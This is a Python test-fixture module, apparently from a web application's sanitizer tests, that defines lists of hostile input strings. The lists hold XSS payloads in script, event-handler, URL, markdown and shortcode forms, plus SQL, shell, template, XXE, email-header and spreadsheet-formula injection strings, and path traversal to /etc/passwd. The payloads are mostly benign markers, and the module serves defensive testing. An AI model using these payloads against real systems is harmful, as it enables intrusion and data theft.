"""Hostile strings: our own, and those of a public collection where this checkout has it beside it.

Each of ours that would run as a script says so by calling `alert`, or by asking 127.0.0.1 for
`/executed`, which the browser's tests hear.
"""

import re
from pathlib import Path

SHARED = Path(__file__).parents[3] / "shared/hostile"

SCRIPTS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script src=/executed></script>",
    "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<!--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "</noscript><script>alert(1)</script>", "</xmp><script>alert(1)</script>", "</template><script>alert(1)</script>", "</article></main></body><script>alert(1)</script>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", "`><script>alert(1)</script>", "\"/><img src=x onerror=alert(1)>", "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<script>alert(1)", "<script>alert(1)<!--", "<scr\u0000ipt>alert(1)</script>", "<script type=module>alert(1)</script>",
    "<script type=importmap>{}</script>", "<script type=speculationrules>{\"prefetch\":[]}</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "\u2028alert(1)//", "</script \n><script>alert(1)</script>",
]  # fmt: skip
HANDLERS = [
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror\n=alert(1)>", "<img src='x' ONERROR='alert(1)'>", "<img src=`x` onerror=alert(1)>", "<img src=x:x onerror=alert(1)//", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a>", "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<video src=x onerror=alert(1)></video>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<p tabindex=0 autofocus onfocus=alert(1)>x</p>", "<marquee onstart=alert(1)>x</marquee>", "<object data=x onerror=alert(1)>", "<iframe onload=alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<p onmouseover=alert(1)>x</p>", "<a href=# onclick=alert(1)>x</a>", "<b onanimationstart=alert(1) style='animation:x 1s'>x</b>", "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationend=alert(1)>x", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", " onmouseover=alert(1) ", "\" autofocus onfocus=alert(1) x=\"",
    "x\" onerror=\"alert(1)", "<img src=x\u00a0onerror=alert(1)>", "<img src=x onerror=&#97;lert(1)>", "<image src=x onerror=alert(1)>", "<table background=/executed><td background=/executed>", "<dialog open onclose=alert(1)>x", "<p onfocusin=alert(1) contenteditable autofocus>x",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "javascript:alert(1)//https://a.example", "javascript://a.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "blob:https://a.example/x", "file:///etc/passwd", "about:blank", "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
    "//evil.example/x", "\\\\evil.example/x", "/\\evil.example/x", "https:evil.example", "https:///evil.example", "http://evil.example@good.example/", "https://good.example\\@evil.example/", "https://evil.example\x00.good.example/", "https://a.example/\" onmouseover=\"alert(1)", "https://a.example/'><script>alert(1)</script>",
    "https://[::1", "https://a.example:99999/", "https://\u0430pple.example/", "https://a\u3002example/", "https://a.example/\u202egnp.exe", "mailto:a@b.example?bcc=c@d.example%0d%0aSubject:x", "mailto:a@b.example\"onclick=alert(1)", "tel:1\"onclick=alert(1)", "../../../../etc/passwd", "/api/moderate?t=x", "?q=<script>alert(1)</script>", "#\"><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>", "<a href=' &#14; javascript:alert(1)'>x</a>", "<a href='java&Tab;script:alert(1)'>x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1) form=reply-form>x</button>", "<input type=image src=/executed>",
    "<iframe src=javascript:alert(1)></iframe>", "<embed src=/executed>", "<object data=/executed></object>", "<base href=//evil.example/>", "<base href=javascript:alert(1)//>", "<link rel=stylesheet href=/executed>", "<link rel=preload as=script href=/executed>", "<link rel=prefetch href=/executed>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=/executed'>", "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta http-equiv=Set-Cookie content=a=b>", "<style>@import '/executed';</style>", "<style>body{background:url(/executed)}</style>", "<p style='background:url(/executed)'>x</p>", "<p style=behavior:url(/executed)>x</p>", "<img srcset='/executed 1x'>", "<img src=/executed>",
    "<picture><source srcset=/executed><img src=x></picture>", "<video poster=/executed></video>", "<audio src=/executed autoplay>", "<track src=/executed>", "<portal src=/executed>", "<a ping=/executed href=/x>x</a>", "<svg><image href=/executed /></svg>", "<svg><style>@import '/executed'</style></svg>", "<frameset><frame src=/executed></frameset>", "<applet code=/executed></applet>", "<keygen autofocus onfocus=alert(1)>",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](<javascript:alert(1)>)", "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:alert(1))", "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](x\"onerror=alert(1)//)", "![x\" onerror=\"alert(1)](https://a.example/x.png)", "[x](https://a.example \"\\\" onmouseover=\\\"alert(1)\")", "<javascript:alert(1)>", "<https://a.example/\"onmouseover=alert(1)>", "[x]: javascript:alert(1)\n\n[x]", "[x][y]\n\n[y]: data:text/html,<script>alert(1)</script>", "`<script>alert(1)</script>`", "```\n</code></pre><script>alert(1)</script>\n```",
    "``` \"onmouseover=alert(1)\nx\n```", "# <img src=x onerror=alert(1)>", "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |", "[^<script>alert(1)</script>]", "a[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "<p>\n\n[x](javascript:alert(1))\n\n</p>", "[<img src=x onerror=alert(1)>](/x/)", "\\<script>alert(1)\\</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "<div\n\n><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}", "{{ self }}", "${alert(1)}", "<%= 7*7 %>", "{{ paper.__class__ }}", "{% include '/etc/passwd' %}", "&#x3C;img src=x onerror=alert(1)&#x3E;",
]  # fmt: skip
BORROWED = [
    "<iframe src='https://a.example/\"><script>alert(1)</script>' title='\"><img src=x onerror=alert(1)>'></iframe>", "<iframe data-src=javascript:alert(1)></iframe>", "<iframe src='java\tscript:alert(1)' data-src='data:text/html,<script>alert(1)</script>'></iframe>", "<video title='<script>alert(1)</script>'><source src=https://a.example/a.mp4></video>",
    "<iframe src='https://w.soundcloud.com/player/?url=javascript:alert(1)'></iframe>", "<iframe src='https://www.facebook.com/plugins/post.php?href=javascript%3Aalert(1)'></iframe>", "<iframe src='https://player.twitch.tv/?channel=%22%3E%3Cscript%3Ealert(1)%3C/script%3E'></iframe>", "<object data=javascript:alert(1) title=x><embed src=/executed></object>", "<embed src='javascript:alert(1)//https://a.example/'>",
    "[embed]javascript:alert(1)[/embed]", "[iframe src=\"javascript:alert(1)\"]", "[video mp4=\"https://a.example/a.mp4' onerror='alert(1)\" title=\"<script>alert(1)</script>\"]", "[audio https://a.example/\"><script>alert(1)</script>]", "[caption id=\"x\"]<img src=x onerror=alert(1)> <script>alert(1)</script>[/caption]", "[caption id=\"x\" caption=\"<script>alert(1)</script>\"]<img src=\"https://a.example/a.png\">[/caption]", "[youtube \"><script>alert(1)</script>]", "[code]<script>alert(1)</script>[/code]", "[a b='<script>']alert(1)[/a]",
    "<img data-src=javascript:alert(1) src=x>", "<img srcset='javascript:alert(1) 1x, https://a.example/\"onerror=alert(1) 2x'>", "<picture><source srcset='https://a.example/a.png\" onerror=\"alert(1) 1x'><img src=x onerror=alert(1)></picture>", "<a href='https://www.google.com/url?q=javascript:alert(1)'>x</a>", "<a href='https://l.facebook.com/l.php?u=data:text/html,<script>alert(1)</script>'>x</a>", "<a href='https://www.google.com/amp/s/\"onclick=alert(1)'>x</a>",
    "<a href='tel:1\" onclick=\"alert(1)'>x</a>", "<a href='sms:1?body=\"><script>alert(1)</script>'>x</a>", "<a href='webcal:javascript:alert(1)'>x</a>", "<a href='TEL:javascript:alert(1)'>x</a>", "<style>.c1{font-weight:700;background:url(/executed)}</style><span class=c1 onclick=alert(1)>x</span>", "<span style='font-weight:700;background:url(/executed)' onclick=alert(1)>x</span>", "<style>--></style><script>alert(1)</script>", "<style>.a{</style><img src=x onerror=alert(1)>}</style>",
    "<p class=MsoListParagraph onclick=alert(1)>1. <script>alert(1)</script></p>", "<p class=title><img src=x onerror=alert(1)>x</p>", "<p class=subtitle onclick=alert(1)>x</p>", "<p role=heading aria-level='2 onclick=alert(1)'>x</p>", "<b id=docs-internal-guid-1 style=font-weight:normal onclick=alert(1)>x</b>", "<div id=contents onclick=alert(1)>x</div>", "<font onclick=alert(1) style='x:expression(alert(1))'>x</font>", "<!--[if true]><script>alert(1)</script><![endif]-->", "<![if true]><script>alert(1)</script><![endif]>",
]  # fmt: skip
TEXTS = [
    "a\r\nBcc: victim@b.example", "a\nSubject: other", "a\rBcc: victim@b.example", "a\u2028Bcc: victim@b.example", "a\x0bBcc: v@b.example", "a\x85Bcc: v@b.example", "a%0d%0aBcc: v@b.example", "=?utf-8?q?a=0d=0aBcc:_v@b.example?=", ".\r\nMAIL FROM:<a@b.example>", "\r\n\r\nbody",
    "\u202egnp.exe", "\u202eevil\u202c", "\u2066a\u2067b", "a\u200bb", "\u200b", "\u2060\ufeff", "\u200f\u200e", "\u3164", "\u115f", "\u00ad", "\ufe0f", "\U000e0041\U000e007f", "Z\u0351\u0325a\u0317l\u0334go" * 8, "\ufdfd", "\u0000", "\u0001\u0008\u001f\u007f", "\ufffe\uffff", "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"), "\u0410nn Bell", "Ann\u2009Bell",
    "The Editor", "' OR 1=1 --", "'; DROP TABLE news; --", "$(touch /tmp/x)", "`id`", "| id", "%s%n%x", "{0.__class__}", "../../../../etc/passwd", "..\\..\\windows", "CON", "null", "undefined", "NaN", "true", "-1e999", "0x7fffffff", "1/0", "&", "<", ">", "\"", "'", "\\", "<>", "]]>", "<?xml version='1.0'?>", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>", "<!ENTITY % x SYSTEM 'https://evil.example/'>", "&x;", "&#0;", "&#x1F;", "&#xD800;", "&#128;", "\\u003cscript\\u003e", "</", "<a", "<!--", "-->", "<!", "<?", "User-agent: *\nDisallow: /", "Contact: mailto:evil@evil.example", "# edition 9", "Sitemap: https://evil.example/", "=cmd|' /C calc'!A0", "@SUM(1+1)",
]  # fmt: skip


def of_the_collection() -> list[str]:
    """The vectors that stand beside this checkout; none where there are none."""
    found = []
    for path in sorted(SHARED.glob("*.txt")):
        text = path.read_text(encoding="utf-8")
        found += [part.strip() for part in re.split(r'<div id="\d+">|//\["\'`-->\]\]>\]</div>', text) if part.strip()]
    return found


OURS = [*SCRIPTS, *HANDLERS, *ADDRESSES, *MARKDOWN, *BORROWED, *TEXTS]
ALL = [*OURS, *of_the_collection()]
